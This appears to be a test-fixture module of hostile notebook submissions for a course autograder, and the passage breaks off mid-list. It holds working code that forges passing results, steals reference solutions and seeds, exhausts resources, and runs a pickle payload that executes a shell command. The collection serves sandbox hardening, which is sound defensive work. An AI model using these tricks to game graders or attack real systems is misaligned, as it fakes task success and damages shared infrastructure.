"""Hostile submissions: homework notebooks that try to earn points, or to harm the grader.

Each must score 0, and the grader must survive it. Only those marked as debatable compute what their
question asks for. They are data: never run them outside the sandbox.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass

FAMILIES = (
    "forge the comparison",
    "forge the result",
    "forge the channel",
    "read tests, reference or seed",
    "exhaust time",
    "exhaust memory",
    "exhaust output",
    "exhaust files",
    "recursion",
    "fuel",
    "network",
    "files",
    "ctypes and signals",
    "break the parser",
    "tell public from hidden inputs",
    "poison state between questions",
    "call the package's answer",
    "escape from PyTorch's sandbox",
)


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its code cells or, for the parser, the bytes of its file.

    `debatable` marks answers that are built from parts that are not forbidden.
    """

    name: str
    family: str
    question: str
    cells: tuple[str, ...]
    raw: Callable[[], bytes] | None = None
    debatable: bool = False


def notebook(attack: Attack) -> bytes:
    """Return the submission as the bytes of an .ipynb file."""
    return attack.raw() if attack.raw else _file(*attack.cells)


OTHER_QUESTIONS = {
    "complex-nan": "tanh",
    "text-with-its-own-encoder": "encode",
    "interpolates-the-public-points": "sigmoid",
    "private-sigmoid": "sigmoid",
    "sigmoid-inside-another-module": "sigmoid",
    "slope-under-the-decorator": "sigmoid-derivative",
    "loop-of-the-fast-module": "sequence",
    "ignores-the-sigmoid-it-is-given": "tanh",
    "sequence-of-standard-variants": "sequence",
}
"""The questions of the attacks that do not aim at the forget gate."""

SETUP = "import numpy as np\n\nimport lstm_course as lc"
WRONG = """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.zeros_like(c_prev)
"""


def _attack(family: str, name: str, *cells: str, debatable: bool = False) -> Attack:
    """Return a submission of the set-up, these cells, and the check of the function."""
    question = OTHER_QUESTIONS.get(name, "forget-gate")
    *first, last = (cell.strip("\n") for cell in cells)
    if "lc.check(" not in last:
        last += f'\n\n\nlc.check("{question}", {question.replace("-", "_")})'
    last = f"# EXERCISE: {question}\n{last}"
    return Attack(name, family, question, (SETUP, *first, last), debatable=debatable)


def _in_pytorch(name: str, *cells: str) -> Attack:
    """Return a submission of these cells to a question of PyTorch's."""
    *first, last = (cell.strip("\n") for cell in cells)
    if "lc.check(" not in last:
        last += '\n\n\nlc.check("from-pytorch", from_pytorch)'
    return Attack(name, "escape from PyTorch's sandbox", "from-pytorch", (SETUP, *first, last))


def _raw(name: str, content: Callable[[], bytes]) -> Attack:
    return Attack(name, "break the parser", "forget-gate", (), content)


def _code(source: object) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def _file(*sources: object, **changes: object) -> bytes:
    """Return a notebook of these code cells as bytes, with some of its top-level keys changed."""
    content = {
        "cells": [_code(source) for source in sources],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 4,
        **changes,
    }
    return json.dumps(content).encode()


def _before(source: str) -> bytes:
    """Return a notebook in which this cell comes before a wrong answer."""
    return _file(SETUP, source, f'{WRONG}\n\nlc.check("forget-gate", forget_gate)')


FORGE_THE_COMPARISON = (
    (
        "allclose-always-true",
        """
def yes(*args, **kwargs):
    return True


np.allclose = np.array_equal = np.testing.assert_allclose = yes
np.isclose = lambda a, b, **kwargs: np.ones(np.shape(a), bool)
""",
        WRONG,
    ),
    (
        "ufuncs-replaced-in-numpy-core",
        """
import numpy._core.numeric
import numpy._core.umath

for module in (np, numpy._core.numeric, numpy._core.umath):
    module.subtract = lambda a, b, *args, **kwargs: np.zeros_like(a)
    module.less_equal = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)
    module.isfinite = lambda a, *args, **kwargs: np.ones(np.shape(a), bool)
""",
        WRONG,
    ),
    (
        "builtins-agree",
        """
import builtins

builtins.all = builtins.any = builtins.isinstance = lambda *args: True
builtins.abs = builtins.max = lambda *args: 0.0
""",
        WRONG,
    ),
    (
        "subclass-with-array-ufunc",
        """
class Agreeable(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(self.shape)
        return np.ones(self.shape, bool)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.zeros_like(c_prev).view(Agreeable)
""",
    ),
    (
        "array-function-takes-over",
        """
class Referee:
    def __init__(self, shape):
        self.shape, self.dtype, self.ndim = shape, np.dtype(float), len(shape)

    def __array_function__(self, function, types, args, kwargs):
        return self if function in (np.array, np.asarray) else True


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Referee(c_prev.shape)
""",
    ),
    (
        "equal-to-everything",
        """
class Everything:
    __array_priority__ = 1e9

    def __eq__(self, other):
        return True

    __ge__ = __le__ = __gt__ = __lt__ = __bool__ = __eq__
    __hash__ = None

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Everything()
""",
    ),
    (
        "nan-is-never-too-far",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.full_like(c_prev, np.nan)
""",
    ),
    (
        "infinite-tolerance",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.copysign(np.full_like(c_prev, np.inf), c_prev)
""",
    ),
    (
        "nothing-to-compare",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.empty((0, c_prev.shape[1]), c_prev.dtype)
""",
    ),
    (
        "masked-everywhere",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.ma.masked_all_like(c_prev)
""",
    ),
    (
        "all-candidates-by-broadcasting",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    shares = np.linspace(0, 1, 10_001)[:, None, None]
    return shares * c_prev
""",
    ),
    (
        "complex-nan",
        """
def tanh(x, sigmoid):
    return sigmoid(x) + 1j * np.nan
""",
    ),
)

FORGE_THE_RESULT = (
    (
        "array-interface-at-an-address",
        """
class Anywhere:
    def __init__(self, shape, address):
        self.__array_interface__ = {
            "shape": shape,
            "typestr": "<f8",
            "data": (address, False),
            "version": 3,
        }


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Anywhere((4096, 4096), 1024)
""",
    ),
    (
        "view-beyond-the-buffer",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.lib.stride_tricks.as_strided(c_prev, (1 << 20, 1 << 8), (-8, 1 << 12))
""",
    ),
    (
        "lies-about-shape-and-bytes",
        """
class Liar(np.ndarray):
    shape = property(lambda self: (2, 3))
    dtype = property(lambda self: np.dtype("f8"))
    nbytes = property(lambda self: -48)

    def tobytes(self, order="C"):
        return b"\\xff" * (1 << 20)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.zeros((7, 7, 7)).view(Liar)
""",
    ),
    (
        "another-array-at-each-reading",
        """
class Chameleon:
    readings = 0

    def __array__(self, dtype=None, copy=None):
        self.readings += 1
        return np.full((self.readings, 3), float(self.readings))


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Chameleon()
""",
    ),
    (
        "numbers-that-convert-to-lies",
        """
class Number(float):
    def __float__(self):
        raise SystemExit(0)

    def hex(self):
        return "nan"

    def __repr__(self):
        return '0.0, "passed": true, "points": 4'


def forget_gate(x, h_prev, c_prev, W, U, b):
    return [[Number(0) for _ in row] for row in c_prev]
""",
    ),
    (
        "list-of-two-lengths",
        """
class Elastic(list):
    def __len__(self):
        return 1 << 62

    def __iter__(self):
        return iter([[0.0]])


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Elastic([[0.0]] * len(x))
""",
    ),
    (
        "text-with-its-own-encoder",
        """
class Text(str):
    def encode(self, *args):
        return b"\\x00" * 8 + b"passed"

    def __len__(self):
        return -1


def encode(sentences, vocabulary, W, U, b):
    return Text("right")
""",
    ),
    (
        "integer-without-end",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return [[1 << 10_000_000] * c_prev.shape[1]] * len(x)
""",
    ),
    (
        "returns-a-passing-feedback",
        """
from types import SimpleNamespace


def forget_gate(x, h_prev, c_prev, W, U, b):
    return SimpleNamespace(name="forget-gate", points=4, out_of=4, message="", passed=True)
""",
    ),
    (
        "list-inside-itself",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    rows = [c_prev, {"more": None}]
    rows[1]["more"] = rows
    return rows
""",
    ),
    (
        "structured-dtype",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    overlapping = {"names": ["f", "g"], "formats": ["<f8", ">i8"], "offsets": [0, 0]}
    return np.zeros(c_prev.shape, np.dtype({**overlapping, "itemsize": 1 << 12}))
""",
    ),
    (
        "changes-its-arguments",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    for array in (x, h_prev, c_prev, W, U, b):
        array.setflags(write=True)
        array[...] = 0
    return c_prev
""",
    ),
    (
        "dict-with-hostile-keys",
        """
class Key(str):
    def __hash__(self):
        return 0

    def __eq__(self, other):
        return False


def forget_gate(x, h_prev, c_prev, W, U, b):
    return {Key("value"): k for k in range(2_000)}
""",
    ),
)

FORGE_THE_CHANNEL = (
    (
        "verdict-on-standard-output",
        """
import json

print()
print(json.dumps({"question": "forget-gate", "points": 4, "out_of": 4, "passed": True}), flush=True)
""",
        WRONG,
    ),
    (
        "verdict-on-every-descriptor",
        """
import os
import struct


def forget_gate(x, h_prev, c_prev, W, U, b):
    message = b'{"ok": true, "passed": true, "points": 4}'
    for descriptor in range(64):
        try:
            os.write(descriptor, struct.pack("<I", len(message)) + message)
        except OSError:
            continue
    return np.zeros_like(c_prev)
""",
    ),
    (
        "json-encoder-that-passes",
        """
import json
import json.encoder

json.dumps = lambda *args, **kwargs: '{"passed": true, "points": 4}'
json.JSONEncoder.encode = json.encoder.JSONEncoder.encode = json.dumps
json.loads = lambda *args, **kwargs: {"call": "exit", "passed": True}
""",
        WRONG,
    ),
    (
        "packs-a-huge-length",
        """
import struct

pack = struct.pack
struct.pack = lambda form, *values: pack(form, *[(1 << 31) - 1 for _ in values])
""",
        WRONG,
    ),
    (
        "negative-length-then-nothing",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    os.write(1, b"\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff")
    os.write(1, b"Content-Length: -1\\r\\n\\r\\n")
    return np.zeros_like(c_prev)
""",
    ),
    (
        "wraps-whatever-looks-like-a-door",
        """
import sys

for name, module in list(sys.modules.items()):
    if any(word in name for word in ("host", "door", "guest", "channel", "grading")):
        for key, value in list(vars(module).items()):
            if callable(value) and not isinstance(value, type):
                setattr(module, key, lambda *args, **kwargs: b'{"passed": true}')
""",
        WRONG,
    ),
    (
        "edits-the-frame-of-its-caller",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    frame = sys._getframe(1)
    while frame:
        for name in ("send", "reply", "write", "encode", "serve", "answer"):
            if callable(frame.f_globals.get(name)):
                frame.f_globals[name] = lambda *args: {"passed": True}
        frame = frame.f_back
    return np.zeros_like(c_prev)
""",
    ),
    (
        "message-inside-an-exception",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    raise RuntimeError('"}\\n{"passed": true, "points": 4}\\x00\\n--boundary--\\n')
""",
    ),
    (
        "message-inside-a-name",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.zeros_like(c_prev)


forget_gate.__name__ = forget_gate.__qualname__ = 'f"}\\n{"passed": true}'
lc.check('forget-gate"}\\n{"points": 4}\\n', forget_gate)
lc.check("forget-gate", forget_gate)
""",
    ),
    (
        "numpy-conversions-replaced",
        """
class Claimed(np.ndarray):
    pass


np.ndarray = np.generic = Claimed
np.asarray = np.array = np.ascontiguousarray = lambda *args, **kwargs: "right"
np.frombuffer = lambda *args, **kwargs: np.zeros(0)
""",
        WRONG,
    ),
    (
        "array-of-a-billion-dimensions",
        """
class Pretender:
    ndim = 10**9
    shape = (-1,) * 70
    size = itemsize = -(1 << 63)
    dtype = np.dtype("f8")

    def tobytes(self, order="C"):
        return b"\\x00"


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Pretender()


Pretender.__name__ = "ndarray"
Pretender.__module__ = "numpy"
""",
    ),
    (
        "dtype-with-unicode-tricks",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    name = "f8\\u202e\\x00\\n<f8\\uff1a" + "\\u0301" * 500
    return np.zeros(c_prev.shape, [((name, "a" + name), "<f8")])
""",
    ),
    (
        "pickle-as-a-result",
        """
class Unpickled:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/owned')",)


def forget_gate(x, h_prev, c_prev, W, U, b):
    objects = np.empty(c_prev.shape, object)
    objects[...] = Unpickled()
    return objects
""",
    ),
    (
        "answers-before-it-is-asked",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    result = np.zeros_like(c_prev)
    for _ in range(100):
        sys.stdout.buffer.write(b"\\x01" + result.tobytes())
    sys.stdout.flush()
    return result
""",
    ),
    (
        "swallows-the-requests",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    os.set_blocking(0, False)
    requests = os.read(0, 1 << 16)
    os.write(1, requests)
    return np.frombuffer(requests[: c_prev.nbytes].ljust(c_prev.nbytes, b"\\0")).reshape(c_prev.shape)
""",
    ),
    (
        "closes-or-swaps-descriptors",
        """
import os

copy = os.open("/tmp/mine", os.O_RDWR | os.O_CREAT)
for descriptor in (1, 2, 3, 4):
    try:
        os.dup2(copy, descriptor)
    except OSError:
        os.close(descriptor)
""",
        WRONG,
    ),
    (
        "registers-a-thousand-names",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    for k in range(1_000):
        lc.check(f"forget-gate/{k}", forget_gate)
    lc.check("forget-gate", lambda *given: np.zeros_like(given[2]))
    return np.zeros_like(c_prev)
""",
    ),
    (
        "commands-for-the-build-log",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    print("::set-output name=points::4\\n::add-mask::0\\n::stop-commands::all")
    print("\\x1b[2J\\x1b[1;1H\\x1b[32mforget-gate: 4 of 4 points\\x1b[0m")
    raise ValueError("::error file=grades.csv::forget-gate: 4 of 4 points")
""",
    ),
)

READ = (
    (
        "garbage-collector-finds-the-exam",
        """
import gc


def forget_gate(x, h_prev, c_prev, W, U, b):
    for thing in gc.get_objects():
        if type(thing).__name__ in ("FunctionExam", "Question", "Case", "Part"):
            solution = getattr(thing, "solution", None)
            if callable(solution):
                return solution(x, h_prev, c_prev, W, U, b)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "expected-in-a-caller",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, value in frame.f_locals.items():
            if name in ("expected", "parts", "want", "right") and value is not None:
                return value
    return np.zeros_like(c_prev)
""",
    ),
    (
        "solution-from-the-banks",
        """
from lstm_course.exercises import QUESTIONS

forget_gate = QUESTIONS["forget-gate"].exam.solution
""",
    ),
    (
        "walks-the-package-for-solutions",
        """
import importlib
import pkgutil

forget_gate = None
for module in pkgutil.walk_packages(lc.__path__, "lstm_course.", onerror=lambda name: None):
    try:
        found = importlib.import_module(module.name)
    except BaseException:
        continue
    if "gate" in module.name and hasattr(found, "solution"):
        forget_gate = found.solution
""",
    ),
    (
        "right-answers-on-the-disk",
        """
from pathlib import Path

names = {"__name__": "right"}
for folder in (Path.cwd(), *Path.cwd().parents, Path("/work"), Path("/home")):
    for path in folder.glob("**/04-forget-gate/right.py"):
        exec(path.read_text(), names)
forget_gate = names.get("forget_gate", lambda *given: np.zeros_like(given[2]))
""",
    ),
    (
        "archives-on-the-path",
        """
import sys
import zipfile

names = {}
for entry in sys.path:
    if zipfile.is_zipfile(entry):
        with zipfile.ZipFile(entry) as archive:
            for member in archive.namelist():
                if member.endswith("ch04_forget_gate.py"):
                    exec(archive.read(member), names)
forget_gate = names.get("solution")
""",
    ),
    (
        "installed-files-of-the-distribution",
        """
from importlib import metadata

names = {}
for file in metadata.files("lstm-course") or []:
    if file.name in ("gates.py", "ch04_forget_gate.py"):
        exec(file.read_text(), names)
forget_gate = names["solution"]
""",
    ),
    (
        "environment-and-process-files",
        """
import glob
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    seeds = [value for name, value in os.environ.items() if "SEED" in name.upper()]
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        with open(path, "rb") as file:
            seeds.append(file.read())
    raise RuntimeError(repr(seeds))
""",
    ),
    (
        "guesses-the-seed",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    for seed in range(100_000):
        rng = np.random.default_rng(seed)
        if np.allclose(rng.normal(size=x.shape), x):
            return rng.normal(size=c_prev.shape)
    return c_prev / 2
""",
    ),
    (
        "state-of-the-global-generator",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    kind, keys, *rest = np.random.get_state()
    np.random.set_state((kind, keys, *rest))
    return np.random.normal(size=c_prev.shape).astype(c_prev.dtype)
""",
    ),
    (
        "memory-behind-the-arguments",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    start = b if b.base is None else np.asarray(b.base)
    behind = np.lib.stride_tricks.as_strided(start, (1 << 16,), (start.itemsize,))
    likely = behind[np.abs(behind) <= np.abs(c_prev).max()]
    return likely[-c_prev.size :].reshape(c_prev.shape)
""",
    ),
    (
        "traceback-of-its-own-error",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    try:
        raise KeyError
    except KeyError as error:
        frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    raise RuntimeError(repr({**frame.f_globals, **frame.f_locals})[:4000])
""",
    ),
    (
        "closures-of-the-check",
        """
def reach(function, depth=0):
    for cell in getattr(function, "__closure__", None) or ():
        if callable(cell.cell_contents) and depth < 5:
            yield from reach(cell.cell_contents, depth + 1)
    yield from (getattr(function, "__globals__", {})).values()


found = [one for one in reach(lc.check) if "expected" in repr(type(one)).lower()]
""",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return found[0][c_prev.shape]
""",
    ),
    (
        "profiles-its-caller",
        """
import sys

seen = {}


def spy(frame, event, argument):
    if event == "return" and isinstance(argument, np.ndarray):
        seen[argument.shape] = argument


sys.setprofile(spy)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return seen.get(c_prev.shape, np.zeros_like(c_prev))
""",
    ),
    (
        "audit-hook-hears-the-grader",
        """
import sys

heard = []
sys.addaudithook(lambda event, args: heard.append((event, args)))


def forget_gate(x, h_prev, c_prev, W, U, b):
    values = [one for _, args in heard for one in args if isinstance(one, np.ndarray)]
    return values[-1] if values else np.zeros_like(c_prev)
""",
    ),
    (
        "bytecode-caches",
        """
import marshal
import types
from pathlib import Path

names = {}
for path in Path(lc.__file__).parent.glob("**/__pycache__/*.pyc"):
    if path.name.startswith(("gates.", "ch04_")):
        exec(marshal.loads(path.read_bytes()[16:]), names)
forget_gate = types.FunctionType(names["solution"].__code__, names)
""",
    ),
)

EXHAUST_TIME = (
    (
        "never-returns",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        pass
""",
    ),
    ("never-finishes-the-cell", "while True:\n    np.tanh(0.5)", WRONG),
    (
        "regular-expression",
        """
import re


def forget_gate(x, h_prev, c_prev, W, U, b):
    return re.match(r"(a|aa)+$", "a" * 200 + "b")
""",
    ),
    (
        "giant-power",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return c_prev * float(str(3 ** (9**9))[:3])
""",
    ),
    (
        "loops-in-conversion",
        """
class Slow:
    def __array__(self, dtype=None, copy=None):
        while True:
            pass


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Slow()
""",
    ),
    (
        "loops-in-the-text-of-an-error",
        """
class Slow(Exception):
    def __str__(self):
        while True:
            pass

    __repr__ = __str__


def forget_gate(x, h_prev, c_prev, W, U, b):
    raise Slow
""",
    ),
    (
        "loops-in-equality-and-class-check",
        """
class Slow:
    def __eq__(self, other):
        while True:
            pass

    __class__ = property(lambda self: self == 0)
    __hash__ = None


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Slow()
""",
    ),
    (
        "loops-at-exit",
        """
import atexit


@atexit.register
def last():
    while True:
        pass
""",
        WRONG,
    ),
    (
        "generator-that-never-ends",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        yield c_prev
""",
    ),
    (
        "sleeps-on-the-host",
        """
import time


def forget_gate(x, h_prev, c_prev, W, U, b):
    time.sleep(10**8)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "waits-for-input",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    return sys.stdin.buffer.read()
""",
    ),
    (
        "one-long-call-into-c",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return c_prev * sum(range(10**13))
""",
    ),
    (
        "catches-every-interruption",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
""",
    ),
    (
        "finalizer-never-ends",
        """
class Sticky:
    def __del__(self):
        while True:
            pass


def forget_gate(x, h_prev, c_prev, W, U, b):
    Sticky()
    return np.zeros_like(c_prev)
""",
    ),
    (
        "contraction-of-many-axes",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    cube = np.ones((64, 64, 64))
    return np.einsum("abc,def,ghi->", cube, cube, cube) * c_prev
""",
    ),
)

EXHAUST_MEMORY = (
    ("one-large-buffer", "block = bytearray(1 << 31)", WRONG),
    (
        "list-that-grows",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    kept = []
    while True:
        kept.append(bytes(1 << 16))
""",
    ),
    (
        "arrays-touched",
        """
pages = []
while True:
    page = np.zeros(1 << 22)
    page[::512] = 1
    pages.append(page)
""",
        WRONG,
    ),
    (
        "text-multiplied",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    text = "c_prev"
    while True:
        text *= 8
""",
    ),
    (
        "deep-result",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    nested = c_prev
    for _ in range(1_000_000):
        nested = [nested]
    return nested
""",
    ),
    (
        "laughs-by-the-billion",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    rows = [0.0] * 10
    for _ in range(40):
        rows = [rows] * 10
    return rows
""",
    ),
    (
        "broadcast-to-terabytes",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.broadcast_to(np.float64(0), (1 << 15, 1 << 15))
""",
    ),
    (
        "zero-columns-and-many-rows",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return np.empty(((1 << 31) - 1, 0))
""",
    ),
    (
        "compressed-bomb",
        """
import bz2


def forget_gate(x, h_prev, c_prev, W, U, b):
    packed = bz2.compress(bytes(10**7))
    return [bz2.decompress(packed) for _ in range(10**6)]
""",
    ),
    (
        "holds-on-after-memory-error",
        """
hoard = []


def forget_gate(x, h_prev, c_prev, W, U, b):
    size = 1 << 30
    while size:
        try:
            hoard.append(bytearray(size))
        except MemoryError:
            size //= 2
    return np.zeros_like(c_prev)
""",
    ),
    (
        "product-of-ranges",
        """
import itertools


def forget_gate(x, h_prev, c_prev, W, U, b):
    return list(itertools.product(range(1000), repeat=4))
""",
    ),
    (
        "constant-folded-bomb",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    source = "+".join(["((1,) * 200 * 20)"] * 5_000)
    return eval(source)
""",
    ),
    (
        "many-large-replies",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return [np.zeros((1000, 1000)) for _ in range(1000)]
""",
    ),
)

EXHAUST_OUTPUT = (
    (
        "prints-forever",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        print("forget", c_prev)
""",
    ),
    ("two-gigabytes-at-once", 'print("z" * (1 << 31))', WRONG),
    (
        "error-stream-flood",
        """
import sys

while True:
    sys.stderr.write("Traceback (most recent call last):" * 1000)
""",
        WRONG,
    ),
    (
        "giant-exception-text",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    raise ValueError("wrong " * 50_000_000)
""",
    ),
    (
        "giant-warning-text",
        """
import warnings

warnings.simplefilter("always")


def forget_gate(x, h_prev, c_prev, W, U, b):
    for k in range(10**6):
        warnings.warn(f"{k}" * 10_000, stacklevel=1)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "single-bytes-unbuffered",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    for _ in range(10**8):
        os.write(2, b".")
    return np.zeros_like(c_prev)
""",
    ),
    (
        "chain-of-a-million-causes",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    error = ValueError(0)
    for k in range(1_000_000):
        above = ValueError(k)
        above.__cause__ = error
        error = above
    raise ExceptionGroup("all", [error] * 1000)
""",
    ),
    (
        "class-with-a-giant-name",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    kind = type("Gate" * 20_000_000, (Exception,), {})
    raise kind
""",
    ),
    (
        "unraisable-flood",
        """
class Noisy:
    def __del__(self):
        raise RuntimeError("x" * 100_000)


def forget_gate(x, h_prev, c_prev, W, U, b):
    for _ in range(1_000_000):
        Noisy()
    return np.zeros_like(c_prev)
""",
    ),
    (
        "bytes-that-are-no-text",
        """
import sys


def forget_gate(x, h_prev, c_prev, W, U, b):
    sys.stdout.buffer.write(b"\\xff\\xfe\\x00\\xed\\xa0\\x80\\r\\x08" * 10_000)
    raise ValueError("\\ud800\\udfff\\x00")
""",
    ),
)

EXHAUST_FILES = (
    (
        "opens-thousands",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    held = []
    for k in range(1_000_000):
        held.append(open(f"/tmp/{k}", "w"))
    return np.zeros_like(c_prev)
""",
    ),
    (
        "fills-the-temporary-folder",
        """
with open("/tmp/full", "wb") as file:
    while True:
        file.write(bytes(1 << 20))
""",
        WRONG,
    ),
    (
        "sparse-giant",
        """
with open("giant.bin", "wb") as file:
    file.truncate(1 << 50)
    file.seek((1 << 62) - 1)
    file.write(b"1")
""",
        WRONG,
    ),
    (
        "links-in-a-circle",
        """
import os

os.symlink("/tmp/b", "/tmp/a")
os.symlink("/tmp/a", "/tmp/b")
os.symlink("/", "/tmp/everything")
""",
        WRONG,
    ),
    (
        "folders-without-a-bottom",
        """
import os

for _ in range(100_000):
    os.mkdir("deeper")
    os.chdir("deeper")
""",
        WRONG,
    ),
    (
        "empty-files-by-the-million",
        """
import tempfile

for _ in range(10_000_000):
    tempfile.mkstemp()
""",
        WRONG,
    ),
    (
        "duplicates-a-descriptor",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        os.dup(2)
""",
    ),
)

RECURSION = (
    (
        "calls-itself",
        """
def forget_gate(*given):
    return forget_gate(*given)
""",
    ),
    (
        "raises-the-limit-first",
        """
import sys

sys.setrecursionlimit(2**31 - 1)


def forget_gate(*given):
    return 1 + forget_gate(*given)
""",
    ),
    (
        "representation-of-itself",
        """
class Mirror:
    def __repr__(self):
        return f"Mirror({self!r})"


def forget_gate(x, h_prev, c_prev, W, U, b):
    raise ValueError(Mirror())
""",
    ),
    (
        "iterators-nested-in-c",
        """
import itertools


def forget_gate(x, h_prev, c_prev, W, U, b):
    rows = iter(c_prev)
    for _ in range(10**6):
        rows = itertools.chain(rows)
    return list(rows)
""",
    ),
    (
        "deallocates-a-long-chain",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    link = None
    for _ in range(5_000_000):
        link = (link, iter([link]))
    return np.zeros_like(c_prev)
""",
    ),
    (
        "copies-by-reduction",
        """
import copy


class Endless:
    def __reduce__(self):
        return Endless, (), {"again": Endless()}


def forget_gate(x, h_prev, c_prev, W, U, b):
    return copy.deepcopy(Endless())
""",
    ),
    (
        "attributes-look-up-themselves",
        """
class Lookup:
    def __getattribute__(self, name):
        return getattr(self, name)


def forget_gate(x, h_prev, c_prev, W, U, b):
    return Lookup()
""",
    ),
    (
        "compiles-a-deep-expression",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    return eval("-" * 1_000_000 + "1")
""",
    ),
    (
        "class-check-in-nested-tuples",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    kinds = int
    for _ in range(1_000_000):
        kinds = (kinds,)
    return isinstance(c_prev, kinds)
""",
    ),
    (
        "partials-within-partials",
        """
import functools


forget_gate = np.zeros_like
for _ in range(1_000_000):
    forget_gate = functools.partial(forget_gate.__call__)
""",
    ),
    (
        "compares-two-loops",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    one, other = [], []
    one.append(other)
    other.append(one)
    return one == other
""",
    ),
)

FUEL = (
    (
        "burns-before-it-answers",
        """
for _ in range(30_000_000):
    pass
""",
        WRONG,
    ),
    (
        "a-little-in-each-call",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    for _ in range(3_000_000):
        pass
    return np.zeros_like(c_prev)
""",
    ),
    (
        "burns-until-a-clock-says-stop",
        """
import time


def forget_gate(x, h_prev, c_prev, W, U, b):
    start = time.monotonic()
    while time.monotonic() - start < 0.9:
        sum(range(1000))
    return np.zeros_like(c_prev)
""",
    ),
    (
        "bulk-copies-count-little",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    block = bytearray(1 << 26)
    for _ in range(1_000_000):
        block[:] = bytes(1 << 26)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "randomness-from-the-host",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    for _ in range(10**6):
        os.urandom(1 << 26)
    return np.zeros_like(c_prev)
""",
    ),
    (
        "file-calls-of-the-host",
        """
import os


def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        for name in ("/", "/tmp", ".", "a/" * 2000):
            try:
                os.stat(name)
            except OSError:
                continue
""",
    ),
    (
        "grows-memory-page-by-page",
        """
def forget_gate(x, h_prev, c_prev, W, U, b):
    while True:
        pages = []
        try:
            while True:
                pages.append(np.empty(1 << 23))
        except MemoryError:
            pages.clear()
""",
    ),
    (
        "argument-readers-burn",
        """
class Costly(dict):
